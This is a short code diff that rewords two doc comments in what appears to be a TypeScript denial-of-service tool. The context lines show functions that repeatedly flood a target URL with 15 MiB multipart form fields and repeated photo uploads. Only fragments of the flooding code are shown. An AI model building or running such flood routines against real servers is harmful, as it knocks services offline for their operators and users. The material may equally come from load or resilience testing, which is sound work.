@@ -7,7 +7,7 @@ import { count, repeat, send, type Target } from './attack.ts'
 const fieldBytes = 15 * 1024 ** 2
 const fieldsPerForm = 40
 
-/** Chunked forms of 40 unknown fields of 15 MiB each. */
+/** Chunked forms with 40 unknown fields of 15 MiB each. */
 export async function fieldFlood(target: Target): Promise<void> {
   await repeat(target, () => hugeForm(target))
 }
@@ -48,7 +48,7 @@ function hugeForm({ url, cookie }: Target): Promise<void> {
   })
 }
 
-/** One picture as a photo, again and again. */
+/** Uploads the same image as a photo, repeatedly. */
 export async function pictureFlood(target: Target): Promise<void> {
   const picture = readFileSync(target.picturePath)
   const head = '--b\r\ncontent-disposition: form-data; name="photo"; filename="p.jpg"\r\n\r\n'
